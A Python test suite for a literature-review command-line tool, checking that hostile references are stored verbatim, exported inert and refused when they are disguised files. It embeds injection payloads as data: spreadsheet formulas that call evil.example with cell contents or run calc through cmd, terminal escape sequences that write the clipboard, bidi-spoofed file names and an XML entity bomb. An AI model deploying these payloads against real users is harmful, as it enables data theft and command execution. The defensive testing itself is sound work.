"""Hostile and broken input: each case is imported safely, or refused with nothing stored.

Markup, ANSI escapes, formulas, control and bidi characters are stored verbatim and come
out inert (JSON-escaped, formula-neutralised, control characters dropped from CSV/XLSX,
escaped in md/html/latex); huge values import; binary, truncated and disguised files are
refused with a message saying what they are; no command writes over the review file.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import time
import zipfile
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from litreview.cli import cli
from litreview.cli.appraise_cmds import export_codes
from litreview.cli.dedup_eval import dedup_eval
from litreview.cli.import_cmd import import_
from litreview.cli.report_cmds import export, prisma, table
from litreview.cli.review_cmds import backup, status
from litreview.cli.screen_cmds import next_
from litreview.cli.simulate import simulate
from litreview.cli.team_cmds import export_decisions
from litreview.errors import ImportFormatError, InvalidValue
from litreview.ingest.importer import ImportOptions, import_files
from litreview.storage import records as records_store
from litreview.storage.db import integrity_ok
from litreview.storage.review import Review, create_review, open_review

PROTOCOL = Path(__file__).resolve().parent.parent / "data" / "report" / "protocol.toml"
COMMANDS = (
    import_,
    status,
    next_,
    export,
    table,
    prisma,
    export_codes,
    export_decisions,
    backup,
    dedup_eval,
    simulate,
)
# the root group's --db option and callback with the commands under test (the lead registers
# them on the real group; tests must not change that shared object)
ROOT = click.Group(
    "litreview",
    params=cli.params,
    callback=cli.callback,
    commands={c.name: c for c in COMMANDS if c.name},
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
MARKUP = "[bold red]loud[/] [link=https://evil.example]x[/link] [@click=app.quit]q[/]"
ANSI = "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b]52;c;ZXZpbA==\x07"
BIDI = "abc\u202eevil.exe\u202c \u2066iso\u2069 zero\u200bwidth"
HOSTILE = [*FORMULAS, MARKUP, ANSI, BIDI]
TAGS = (
    "TI",
    "T2",
    "AB",
    "KW",
    "N1",
    "PB",
    "CY",
    "VL",
    "IS",
    "SP",
    "EP",
    "SN",
    "UR",
    "DB",
    "AN",
    "LA",
    "DA",
    "ET",
    "M3",
    "C1",
)
REVIEWER = "=cmd|' /C calc'!A0"


def run(db: Path, *args: str) -> tuple[int, str, str, BaseException | None]:
    result = CliRunner().invoke(ROOT, ["--db", str(db), *args])
    return result.exit_code, result.stdout, result.stderr, result.exception


def hostile_ris(path: Path) -> Path:
    """Three records with a hostile value in every field, then plain padding records."""
    lines = []
    for i, payload in enumerate(HOSTILE[:3]):
        lines += ["TY  - JOUR", f"AU  - {payload}", f"AU  - {MARKUP}, {ANSI}", "PY  - 2010"]
        lines += [f"{tag}  - {HOSTILE[(i + k) % len(HOSTILE)]}" for k, tag in enumerate(TAGS)]
        lines += [f"DO  - 10.1000/hostile.{i}", "ER  - ", ""]
    for i in range(12):  # realistic text after them: control characters stay under 1 %
        lines += [
            "TY  - JOUR",
            f"TI  - Plain record {i}",
            "PY  - 2011",
            "AB  - " + "plain words " * 150,
            "ER  - ",
            "",
        ]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def table_rows(db: Path) -> dict[str, list[tuple[object, ...]]]:
    conn = sqlite3.connect(db)
    names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
    rows = {n: sorted(conn.execute(f"SELECT * FROM [{n}]").fetchall(), key=repr) for n in names}
    conn.close()
    return rows


@pytest.fixture
def hostile(tmp_path: Path) -> Review:
    """A review whose records, decisions, notes, codes and source details are all hostile."""
    from litreview.appraisal.ratings import rate_study
    from litreview.coding.codes import CodeValue, set_codes
    from litreview.fulltext.reports import mark_retrieved, set_notes
    from litreview.screening.session import decide

    review = create_review(tmp_path / "hostile.db", PROTOCOL.read_text(encoding="utf-8"))
    options = ImportOptions(
        database=FORMULAS[0],
        platform=MARKUP,
        query=FORMULAS[1],
        searched_on="2024-01-02",
        limits=ANSI,
    )
    import_files(review, [hostile_ris(tmp_path / "hostile.ris")], options)
    for work_id in (1, 2, 3):
        decide(review, work_id, "include", stage="title", reviewer=REVIEWER, note=FORMULAS[2])
        mark_retrieved(review, work_id, location=FORMULAS[3], reviewer=REVIEWER)
    decide(review, 4, "exclude", stage="title", reviewer=REVIEWER, reason="off-topic")
    for work_id in (1, 2):
        decide(review, work_id, "include", stage="full", reviewer=REVIEWER, note=MARKUP)
        set_notes(review, work_id, {"findings": FORMULAS[0]}, reviewer=REVIEWER)
        set_codes(
            review,
            work_id,
            {
                "method": CodeValue(("experiment",)),
                "venue": CodeValue(("journal",), detail=FORMULAS[1]),
                "summary": CodeValue((), text=f"{FORMULAS[3]} <script>x</script> {MARKUP}"),
            },
            reviewer=REVIEWER,
        )
        rate_study(review, work_id, {"design": "yes", "data": "partly"}, reviewer=REVIEWER)
    decide(review, 3, "exclude", stage="full", reviewer=REVIEWER, reason="no-data", note=ANSI)
    yield review
    review.close()


# ---- stored verbatim ----------------------------------------------------------------------------


def test_markup_escapes_and_formulas_in_every_field_are_stored_verbatim(hostile: Review) -> None:
    records = list(records_store.iter_records(hostile.db))
    assert len(records) == 15
    for i, record in enumerate(records[:3]):
        assert record.raw[:2] == [("TY", "JOUR"), ("AU", HOSTILE[i])]
        assert record.raw[2] == ("AU", f"{MARKUP}, {ANSI}")
        raw = dict(record.raw[4 : 4 + len(TAGS)])
        for k, tag in enumerate(TAGS):
            assert raw[tag] == HOSTILE[(i + k) % len(HOSTILE)], tag
        assert record.fields.title == HOSTILE[i]
        assert len(record.fields.authors) == 2
    fields = records[0].fields
    assert fields.journal == HOSTILE[1] and fields.abstract == HOSTILE[2]
    assert integrity_ok(hostile.db)


def test_json_output_escapes_control_characters(hostile: Review) -> None:
    code, out, _, exc = run(hostile.path, "next", "--json", "--stage", "title")
    assert (code, exc) == (0, None)
    assert "\x1b" not in out and json.loads(out)["stage"] == "title"
    code, out, _, exc = run(hostile.path, "status", "--json")
    assert (code, exc) == (0, None)
    assert "\x1b" not in out and json.loads(out)["sources_detail"][0]["database"] == FORMULAS[0]


def test_text_output_for_a_person_drops_escapes_and_bidi_overrides(
    review: Review, tmp_path: Path
) -> None:
    path = tmp_path / "one.ris"
    record = (
        f"TY  - JOUR\nTI  - {ANSI} {BIDI}\nAU  - {ANSI}\nT2  - {BIDI}\nPY  - 2001\n"
        f"AB  - {MARKUP} {ANSI} {'plain words ' * 200}\nER  - \n\n"
    )
    path.write_text(record * 5, encoding="utf-8")
    import_files(review, [path])
    code, out, _, exc = run(review.path, "next")
    assert (code, exc) == (0, None) and "red" in out
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", out)
    assert "red" in out and "evil.exe" in out and MARKUP in out  # shown, as plain text


# ---- exported escaped ---------------------------------------------------------------------------

NEUTRAL_CELL = re.compile(r"^(?:$|-$|'|[^=+\-@\t\r]|[+-]?\d+(?:[.,]\d+)?%?$)", re.DOTALL)


def assert_inert_cells(cells: list[str], where: str) -> None:
    for cell in cells:
        assert NEUTRAL_CELL.match(cell), f"{where}: formula cell {cell!r}"
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", cell), f"{where}: {cell!r}"


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(path: Path) -> list[str]:
    from openpyxl import load_workbook

    cells = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}: formula at {cell.coordinate}"
                if cell.value is not None:
                    cells.append(str(cell.value))
    return cells


TABLES = [
    ["studies"],
    ["matrix", "--rows", "method", "--cols", "venue"],
    ["grades"],
    ["sources"],
    ["exclusions"],
    ["searches"],
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", TABLES, ids=lambda t: t[0])
def test_every_table_export_neutralises_formulas(
    hostile: Review, tmp_path: Path, name: list[str], fmt: str
) -> None:
    pytest.importorskip("openpyxl")
    target = tmp_path / f"{name[0]}.{fmt}"
    code, _, err, exc = run(hostile.path, "table", *name, "--format", fmt, "-o", str(target))
    assert (code, exc) == (0, None), err
    if fmt == "xlsx":  # inert by the cell type (a string), with no visible guard character
        assert xlsx_cells(target)
        import zipfile

        for name_ in zipfile.ZipFile(target).namelist():
            assert b"<f>" not in zipfile.ZipFile(target).read(name_), name_
        return
    cells = csv_cells(target.read_text("utf-8"))
    assert cells
    assert_inert_cells(cells, target.name)


def test_record_and_code_exports_neutralise_formulas(hostile: Review, tmp_path: Path) -> None:
    code, out, _, exc = run(hostile.path, "export", "--format", "csv", "--stage", "title")
    assert (code, exc) == (0, None)
    cells = csv_cells(out)
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    assert_inert_cells(cells, "export --format csv")
    target = tmp_path / "codes.csv"
    code, _, _, exc = run(hostile.path, "export-codes", "-o", str(target))
    assert (code, exc) == (0, None)
    cells = csv_cells(target.read_text("utf-8"))
    assert any(FORMULAS[3] in cell for cell in cells)
    assert all(NEUTRAL_CELL.match(cell) for cell in cells), cells
    prisma_csv = tmp_path / "prisma.csv"
    code, _, _, exc = run(hostile.path, "prisma", "--partial", "--csv", str(prisma_csv))
    assert (code, exc) == (0, None)
    assert all(NEUTRAL_CELL.match(c) for c in csv_cells(prisma_csv.read_text("utf-8")))


@pytest.mark.parametrize(
    ("fmt", "forbidden"),
    [
        ("md", ["[bold red]", "<script>"]),
        ("html", ["<script>"]),
        ("latex", ["<script>"]),
    ],
)
def test_text_tables_escape_markup(hostile: Review, fmt: str, forbidden: list[str]) -> None:
    code, out, _, exc = run(hostile.path, "table", "studies", "--format", fmt)
    assert (code, exc) == (0, None)
    assert "calc" in out  # the hostile text is there, escaped
    for text in forbidden:
        assert text not in out


def test_ris_export_round_trips_hostile_text(hostile: Review, tmp_path: Path) -> None:
    code, out, _, exc = run(hostile.path, "export", "--format", "ris", "--stage", "title")
    assert (code, exc) == (0, None)
    again = tmp_path / "again.ris"
    again.write_text(out, encoding="utf-8")
    fresh = create_review(tmp_path / "fresh.db", PROTOCOL.read_text(encoding="utf-8"))
    import_files(fresh, [again])
    titles = {r.fields.title for r in records_store.iter_records(fresh.db)}
    fresh.close()
    assert set(HOSTILE[:3]) <= titles


def test_the_tui_shows_control_and_bidi_characters_removed() -> None:
    from litreview.report.sanitize import one_line

    shown = one_line(f"{ANSI} {BIDI}")
    assert not re.search("[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", shown)
    assert "evil.exe" in shown and "red" in shown


# ---- huge values --------------------------------------------------------------------------------


def test_a_five_megabyte_abstract_imports_whole(review: Review, tmp_path: Path) -> None:
    abstract = ("word " * 1_048_576).strip()  # 5 MB on one line
    path = tmp_path / "huge.ris"
    path.write_text(f"TY  - JOUR\nTI  - Huge\nPY  - 2001\nAB  - {abstract}\nER  - \n", "utf-8")
    started = time.perf_counter()
    (result,) = import_files(review, [path])
    assert result.records == 1 and time.perf_counter() - started < 10
    (record,) = records_store.iter_records(review.db)
    assert record.fields.abstract == abstract


def test_ten_thousand_authors_import_and_deduplicate(review: Review, tmp_path: Path) -> None:
    from litreview.dedup.apply import run_dedup

    authors = "".join(f"AU  - Surname{i}, Given{i % 26}\n" for i in range(10_000))
    for name in ("a", "b"):
        path = tmp_path / f"{name}.ris"
        path.write_text(
            f"TY  - JOUR\nTI  - Consortium paper\n{authors}PY  - 2001\n"
            f"DO  - 10.1000/big\nDB  - {name}\nER  - \n",
            "utf-8",
        )
        import_files(review, [path])
    started = time.perf_counter()
    run_dedup(review)
    assert time.perf_counter() - started < 10
    records = list(records_store.iter_records(review.db))
    assert [len(r.fields.authors) for r in records] == [10_000, 10_000]
    assert records[0].fields.authors[9_999] == "Surname9999, Given15"
    assert review.db.execute("SELECT count(*) FROM dedup_groups").fetchone()[0] == 2


# ---- broken and disguised files: a clear error, nothing stored ----------------------------------


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("refs.ris", "TY  - JOUR\nTI  - Zipped\nER  - \n")
    return buffer.getvalue()


def _nul_late() -> bytes:
    """A valid-looking RIS file of 5 MB with one NUL byte past the first 4 MB read."""
    record = "TY  - JOUR\nTI  - Padding record\nAB  - " + "x" * 1000 + "\nER  - \n\n"
    text = record * 5000
    cut = len(text) - 20_000
    return (text[:cut] + "\x00" + text[cut:]).encode("utf-8")


XML_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<PubmedArticleSet><PubmedArticle><ArticleTitle>&lol3;</ArticleTitle></PubmedArticle>
</PubmedArticleSet>
"""
BROKEN = {
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "a PDF"),
    "zip": (_zip_bytes(), "a ZIP archive"),
    "gzip": (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(40), "gzip"),
    "nul-bytes": (b"TY  - JOUR\nTI  - A\x00\x00B\nER  - \n", "NUL bytes"),
    "nul-after-4mb": (_nul_late(), "NUL bytes"),
    "binary-junk": (bytes(range(256)) * 64, "binary"),
    "control-flood": (b"TY  - JOUR\nTI  - " + b"\x1b[31m" * 400 + b"\nER  - \n", "binary data"),
    "truncated-utf16": ("\ufeffTY  - JOUR\nTI  - Cut\n".encode("utf-16-le")[:-1], "truncated"),
    "truncated-utf16-no-bom": (
        ("TY  - JOUR\nTI  - Cut short\nER  - \n" * 80).encode("utf-16-le")[:-1],
        "truncated",
    ),
    "xml-entity-bomb": (XML_BOMB, "not a recognised reference format"),
    "empty": (b"\xef\xbb\xbf \r\n\t\r\n", "empty"),
}


@pytest.mark.parametrize("name", list(BROKEN))
def test_broken_or_disguised_files_are_refused_with_nothing_stored(
    review: Review, tmp_path: Path, name: str
) -> None:
    data, fragment = BROKEN[name]
    good = tmp_path / "good.ris"
    good.write_text("TY  - JOUR\nTI  - Fine\nPY  - 2001\nER  - \n", encoding="utf-8")
    bad = tmp_path / "refs.ris"
    bad.write_bytes(data)
    before = table_rows(review.path)
    code, out, _, exc = run(review.path, "import", str(good), str(bad))
    assert code == 1 and out == "" and isinstance(exc, ImportFormatError), exc
    assert exc.path == str(bad) and fragment.lower() in exc.message.lower()
    assert table_rows(review.path) == before


def test_the_review_file_is_not_importable(review: Review) -> None:
    code, _, _, exc = run(review.path, "import", str(review.path))
    assert code == 1 and "SQLite database" in str(exc)
    assert integrity_ok(review.db)


def test_nothing_parses_xml_except_through_defusedxml() -> None:
    """Entity bombs cannot reach a parser: the package never imports an unsafe XML parser."""
    unsafe = re.compile(
        r"^\s*(?:from|import)\s+(?:xml\.(?:etree|dom|sax(?!\.saxutils))|lxml)\b", re.MULTILINE
    )
    package = Path(__file__).resolve().parents[2] / "litreview"
    offenders = [
        str(p.relative_to(package))
        for p in package.rglob("*.py")
        if unsafe.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# ---- no output may overwrite the review ---------------------------------------------------------


def _output_commands(db: Path, target: str, tmp_path: Path) -> list[list[str]]:
    labelled = tmp_path / "labelled.csv"
    labelled.write_text("record_id,group_id,title\n1,1,A\n", encoding="utf-8")
    screening = tmp_path / "screening.csv"
    screening.write_text("title,abstract,label_included\nA,a,1\nB,b,0\n", encoding="utf-8")
    return [
        ["prisma", "--svg", target],
        ["prisma", "--csv", target],
        ["table", "studies", "-o", target],
        ["table", "grades", "--format", "xlsx", "-o", target],
        ["export", "-o", target],
        ["export", "--format", "csv", "-o", target],
        ["export-codes", "-o", target],
        ["export-decisions", "--reviewer", "x", "-o", target],
        ["backup", target],
        ["dedup-eval", str(labelled), "--groups-out", target],
        ["simulate", str(screening), "--seeds", "1", "--trace-out", target],
    ]


@pytest.mark.parametrize("alias", ["itself", "wal", "shm", "symlink", "hardlink"])
def test_no_output_option_overwrites_the_review(
    hostile: Review, tmp_path: Path, alias: str
) -> None:
    db = hostile.path
    target = {
        "itself": db,
        "wal": Path(f"{db}-wal"),
        "shm": Path(f"{db}-shm"),
        "symlink": tmp_path / "link.db",
        "hardlink": tmp_path / "hard.db",
    }[alias]
    if alias == "symlink":
        target.symlink_to(db)
    elif alias == "hardlink":
        os.link(db, target)
    before = db.read_bytes()
    for args in _output_commands(db, str(target), tmp_path):
        code, _, _, exc = run(db, *args)
        assert code == 1 and isinstance(exc, InvalidValue), (args, exc)
        assert "refusing to write over the review file" in exc.message
    assert db.read_bytes() == before
    with open_review(db) as again:
        assert integrity_ok(again.db)


def test_outputs_elsewhere_still_work(hostile: Review, tmp_path: Path) -> None:
    for args, suffix in (
        (["table", "studies", "-o"], ".md"),
        (["export", "-o"], ".ris"),
        (["backup"], ".out"),
    ):
        target = tmp_path / f"{args[0]}{suffix}"
        code, _, err, exc = run(hostile.path, *args, str(target))
        assert (code, exc) == (0, None), (args, err)
        assert target.stat().st_size > 0
